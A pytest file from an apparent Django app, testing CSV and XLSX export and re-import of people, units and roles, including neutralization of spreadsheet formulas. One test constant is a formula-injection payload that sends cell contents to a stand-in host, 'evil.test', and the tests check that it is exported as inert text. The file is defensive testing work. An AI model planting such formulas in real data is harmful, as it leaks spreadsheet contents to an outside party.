"""Export in the import's columns: it imports back as a no-op, and formulas stay inert."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest

from leados.core import services
from leados.core.models import HistoryEntry, Person, RoleAssignment, Unit
from leados.core.tenancy import org_scope
from leados.core.transfer.columns import COLUMNS
from tests.transfer.conftest import Flow

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'


def _export(client, kind: str, slug: str = "acme"):
    return client.get(f"/o/{slug}/transfer/export/?format={kind}")


def _rows(response, kind: str) -> list[list[str]]:
    if kind == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def richer(world, in_org):
    with in_org():
        emea = services.unit_create(parent=world.sales, level="functional_team", name="EMEA")
        services.unit_create(
            parent=world.ops,
            level="project",
            name="ERP/Finance move",
            start_date=datetime.date(2026, 1, 1),
            end_date=datetime.date(2026, 9, 30),
        )
        services.role_assignment_create(unit=emea, person=world.coach, role="manage")
        services.role_assignment_create(unit=world.sales, person=world.viewer, role="member")
        services.person_update(person=world.viewer, expected_version=None, name=FORMULA)
        services.person_update(person=world.coach, expected_version=None, title="+1 coach")
    return world


def test_export_lists_every_role_and_every_unused_unit(client_for, richer):
    response = _export(client_for("member"), "csv")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="acme-people-and-units-'
    )
    rows = _rows(response, "csv")
    assert rows[0] == COLUMNS
    body = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert {
        "email": "member@acme.test",
        "name": "Mia Member",
        "title": "Sales lead",
        "manager_email": "admin@acme.test",
        "unit_path": "Leadership team/Sales",
        "level": "functional_team",
        "role": "lead",
        "org_role": "member",
        "start_date": "",
        "end_date": "",
    } in body
    assert {
        "email": "",
        "name": "",
        "title": "",
        "manager_email": "",
        "unit_path": "Leadership team/Operations/ERP\\/Finance move",
        "level": "project",
        "role": "",
        "org_role": "",
        "start_date": "2026-01-01",
        "end_date": "2026-09-30",
    } in body
    owner_rows = [r for r in body if r["email"] == "owner@acme.test"]
    assert [(r["unit_path"], r["role"]) for r in owner_rows] == [
        ("Leadership team", "lead"),
        ("Leadership team", "manage"),
    ]
    admin_rows = [r for r in body if r["email"] == "admin@acme.test"]
    assert [(r["unit_path"], r["org_role"]) for r in admin_rows] == [("", "admin")]
    assert not any("globex" in r["email"] for r in body)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_are_neutralized_with_a_leading_quote(kind, client_for, richer):
    rows = _rows(_export(client_for("viewer"), kind), kind)
    viewer = next(r for r in rows if r[0] == "viewer@acme.test")
    coach = next(r for r in rows if r[0] == "coach@acme.test")
    assert viewer[1] == "'" + FORMULA
    assert coach[2] == "'+1 coach"


def test_xlsx_cells_are_text_not_formulas(client_for, richer):
    response = _export(client_for("viewer"), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert types == {"s"}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_imports_back_as_a_no_op(kind, client_for, richer, in_org):
    exported = _export(client_for("admin"), kind)
    with in_org():
        history = HistoryEntry.objects.count()
        versions = sorted(Person.objects.values_list("id", "version", "name"))
    flow = Flow(client_for("admin"))
    assert flow.upload(exported.content, f"export.{kind}").status_code == 302
    preview = flow.preview()

    assert preview.context["plan"].errors == []
    assert preview.context["plan"].is_noop
    assert flow.apply().status_code == 302
    with in_org():
        assert HistoryEntry.objects.count() == history
        assert sorted(Person.objects.values_list("id", "version", "name")) == versions
        assert Person.objects.get(pk=richer.viewer.pk).name == FORMULA


def test_an_export_rebuilds_the_structure_in_another_organization(client_for, richer, in_org):
    exported = _export(client_for("owner"), "xlsx")
    globex = Flow(client_for("outsider"), slug="globex")
    errors = globex.errors(exported.content, "acme.xlsx")
    # Globex's top unit already has its own lead and manager.
    assert [(c, m.split(";")[0]) for _r, c, m in errors] == [
        ("role", "Otto Outsider already leads Leadership team"),
        ("role", "Otto Outsider already manages Leadership team"),
    ]
    rows = _rows(_export(client_for("owner"), "csv"), "csv")
    kept = [r for r in rows if not (r[4] == "Leadership team" and r[6] in ("lead", "manage"))]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(kept)
    assert globex.run(buffer.getvalue().encode(), "acme.csv").status_code == 302
    with org_scope(richer.other_org):
        assert Unit.objects.filter(name="ERP/Finance move", level="project").exists()
        assert RoleAssignment.objects.filter(
            person__user__email="member@acme.test", unit__name="Sales", role="lead"
        ).exists()
        assert Person.objects.get(user__email="member@acme.test").manager.user.email == (
            "admin@acme.test"
        )
    again = _export(client_for("outsider"), "csv", slug="globex")
    assert globex.upload(again.content, "globex.csv").status_code == 302
    assert globex.preview().context["plan"].is_noop


def test_an_unknown_format_is_a_bad_request(client_for, world):
    assert _export(client_for("admin"), "pdf").status_code == 400


def test_export_reads_in_a_fixed_number_of_queries(
    client_for, richer, django_assert_max_num_queries
):
    client = client_for("admin")
    with django_assert_max_num_queries(12):
        assert _export(client, "csv").status_code == 200
